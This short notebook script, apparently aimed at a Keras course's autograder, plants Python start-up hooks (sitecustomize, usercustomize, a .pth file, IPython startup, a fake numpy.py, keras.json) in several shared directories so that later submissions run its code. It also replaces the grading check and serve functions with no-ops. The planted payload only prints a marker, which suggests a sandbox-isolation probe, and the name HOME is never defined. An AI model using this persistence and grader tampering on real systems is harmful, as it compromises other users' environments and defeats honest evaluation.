# %% [markdown]
# Leaves start-up files, settings and modules where the next submission's interpreter may find them.

# %%
import builtins
import os
import sys

poison = "print('keras_course_' + 'breach')\n"
names = [".ipython/profile_default/startup/00-keras_course_attack.py", ".keras/keras.json", ".pythonrc.py"]
for folder in (HOME, os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "."):
    for name in [*names, "sitecustomize.py", "usercustomize.py", "numpy.py", "keras_course_attack.pth"]:
        try:
            os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
            with open(f"{folder}/{name}", "x") as file:
                file.write(poison)
        except OSError as error:
            print(error)

import keras

import utils.checks
import utils.grading.student

builtins.print("poison")
keras.backend.set_floatx("float16")
utils.checks.equal = builtins.poison = utils.grading.student.serve = lambda *arguments, **settings: None
sys.path.insert(0, os.getcwd())
